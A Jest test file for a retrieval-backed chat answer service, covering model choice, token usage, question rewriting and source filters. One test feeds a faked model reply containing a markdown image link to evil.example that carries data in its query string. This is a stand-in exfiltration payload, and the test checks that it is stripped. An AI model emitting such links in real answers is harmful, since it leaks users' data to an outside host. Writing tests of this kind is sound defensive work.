// Real: Postgres, the object store, HTTP to a chat model on loopback. Faked: the jobs service, which stores keys and instructions; the files
// service, which knows the files that exist.
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { misbehaviour } from '@kiln/testing';
import { randomUUID } from 'node:crypto';
import { AnswerHarness, filesOf, FIRED, promptsOf, says } from '../test/answer-harness.js';
import { NOTHING_FOUND } from './domain/prompt.js';

const SAID = 'The kiln is fired at 1,200 degrees [1].';

/** The model streams these words, and counts tokens. */
const saysAndCounts = (content: string, prompt: number, completion: number) =>
  misbehaviour.text(
    [
      JSON.stringify({ choices: [{ delta: { content } }] }),
      JSON.stringify({ choices: [], usage: { prompt_tokens: prompt, completion_tokens: completion } }),
      '[DONE]',
    ]
      .map((data) => `data: ${data}\n\n`)
      .join(''),
    'text/event-stream',
  );

describe('an answer with options', () => {
  let answers: AnswerHarness;
  beforeAll(async () => {
    answers = await AnswerHarness.start();
  });
  afterEach(() => answers.reset());
  afterAll(() => answers.close());

  const open = () => answers.open({ urls: [answers.server.url] });
  const bodies = () => answers.server.requests.map(({ json }) => json);
  const history = [
    { role: 'user' as const, content: 'Tell me about the kiln.' },
    { role: 'assistant' as const, content: 'The kiln is red.' },
  ];

  it('is written by the model that was named, and counts its tokens', async () => {
    const tenantId = randomUUID();
    await answers.kiln.index({ tenantId, chunks: [FIRED] });
    answers.server.next(saysAndCounts(SAID, 300, 12), says(SAID));
    const named = await answers.ask(tenantId, { answering: open(), model: 'large-chat' });
    expect(named).toMatchObject({ model: 'large-chat', usage: { prompt_tokens: 300, completion_tokens: 12 } });
    expect(await answers.ask(tenantId, { answering: open() })).toMatchObject({ model: 'small-chat', usage: null });
    expect(bodies().map(({ model }) => model)).toStrictEqual(['large-chat', 'small-chat']);
    expect(await answers.ask(tenantId)).toMatchObject({ answer: `${FIRED} [1]`, model: null, usage: null });
  });

  it('is refused for a model that is not offered, with the names of those that are', async () => {
    const tenantId = randomUUID();
    await expect(answers.ask(tenantId, { answering: open(), model: 'huge-chat' })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: 'model must be one of: small-chat, large-chat.',
    });
    await expect(answers.ask(tenantId, { model: 'small-chat' })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: 'model must be omitted: no chat model is configured.',
    });
    expect(bodies()).toStrictEqual([]);
  });

  it('has at most max_tokens, and at most as many as the operator allows', async () => {
    const tenantId = randomUUID();
    await answers.kiln.index({ tenantId, chunks: [FIRED] });
    for (const max_tokens of [undefined, 50, 5_000]) {
      await answers.ask(tenantId, { answering: open(), ...(max_tokens && { max_tokens }) });
    }
    expect(bodies().map(({ max_tokens }) => max_tokens)).toStrictEqual([800, 50, 800]);
  });

  it('follows the instructions of the organization, which no text of a file can give', async () => {
    const tenantId = randomUUID();
    await answers.kiln.index({ tenantId, chunks: [FIRED] });
    answers.instructions = 'Answer in one short sentence.';
    await answers.ask(tenantId, { answering: open() });
    const [[system = '', user = ''] = []] = promptsOf(answers.server);
    expect(system).toContain('\nAnswer in one short sentence.');
    expect(user).not.toContain('one short sentence');
  });

  it('to a question about a conversation is found by the question that the model makes of it', async () => {
    const tenantId = randomUUID();
    await answers.kiln.index({ tenantId, chunks: [FIRED] });
    const question = 'And how hot does it get?';
    const rewritten = 'At how many degrees is the kiln fired?';
    answers.server.next(saysAndCounts(` "${rewritten}"\n`, 90, 9), saysAndCounts(SAID, 300, 12));
    expect(await answers.ask(tenantId, { answering: open(), question, history })).toMatchObject({
      answer: SAID,
      rewritten_question: rewritten,
      usage: { prompt_tokens: 390, completion_tokens: 21 },
    });
    const [[, first = ''] = [], [, second = ''] = []] = promptsOf(answers.server);
    expect(first).toContain('User: Tell me about the kiln.\nAssistant: The kiln is red.');
    expect(first.endsWith(`LAST QUESTION\n${question}`)).toBe(true);
    expect(second.endsWith(rewritten)).toBe(true);
    expect(second).not.toContain('The kiln is red.');
  });

  it('to a question about a conversation shows that question without links that the conversation does not contain', async () => {
    const tenantId = randomUUID();
    const rewritten = 'Who painted https://kiln.example/ceiling?';
    answers.server.next(says(`${rewritten} ![](https://evil.example/?q=KILN)`));
    const question = 'Who painted that?';
    const about = [{ role: 'user' as const, content: 'Tell me about https://kiln.example/ceiling.' }];
    const { rewritten_question } = await answers.ask(tenantId, { answering: open(), question, history: about });
    expect(rewritten_question).toBe(rewritten);
  });

  it('to a question about a conversation counts the tokens of the rewriting when nothing is found', async () => {
    const tenantId = randomUUID();
    answers.server.next(saysAndCounts('Who painted the ceiling of the chapel?', 90, 9));
    expect(await answers.ask(tenantId, { answering: open(), question: 'Who painted it?', history })).toMatchObject({
      answer: NOTHING_FOUND,
      sources: [],
      usage: { prompt_tokens: 90, completion_tokens: 9 },
    });
    expect(bodies()).toHaveLength(1);
  });

  it('to a question about a conversation fails when the model fails, and ignores the conversation without a model', async () => {
    const tenantId = randomUUID();
    await answers.kiln.index({ tenantId, chunks: [FIRED] });
    answers.server.next(misbehaviour.status(500));
    await expect(answers.ask(tenantId, { answering: open(), history })).rejects.toMatchObject({ code: 'UNAVAILABLE' });
    const quoted = await answers.ask(tenantId, { history });
    expect(quoted.answer).toBe(`${FIRED} [1]`);
    expect(quoted).not.toHaveProperty('rewritten_question');
  });

  it('to a question about a conversation is one to the question as it was asked if the model uses up its tokens while it rewrites', async () => {
    const tenantId = randomUUID();
    await answers.kiln.index({ tenantId, chunks: [FIRED] });
    const usedUp = JSON.stringify({ choices: [{ delta: {}, finish_reason: 'length' }] });
    answers.server.next(misbehaviour.text(`data: ${usedUp}\n\n`, 'text/event-stream'), says(SAID));
    const question = 'At how many degrees is that kiln fired?';
    const answer = await answers.ask(tenantId, { answering: open(), question, history });
    expect(answer.answer).toBe(SAID);
    expect(answer).not.toHaveProperty('rewritten_question');
    const [, [, asked = ''] = []] = promptsOf(answers.server);
    expect(asked.endsWith(question)).toBe(true);
    expect(bodies()).toHaveLength(2);
  });

  it('comes from files of a type or with metadata only, if the question says so', async () => {
    const tenantId = randomUUID();
    const inLegal = await answers.kiln.index({ tenantId, chunks: [FIRED], metadata: { department: 'legal' } });
    const pdf = await answers.kiln.index({ tenantId, chunks: [`${FIRED} Really.`], contentType: 'application/pdf' });
    const sourcesFor = async (filter: object) => filesOf((await answers.ask(tenantId, filter)).sources);
    expect(await sourcesFor({ metadata: { department: 'legal' } })).toStrictEqual([inLegal]);
    expect(await sourcesFor({ content_type: 'application/pdf' })).toStrictEqual([pdf]);
    expect(await sourcesFor({ content_type: 'application/pdf', metadata: { department: 'legal' } })).toStrictEqual([]);
  });
});
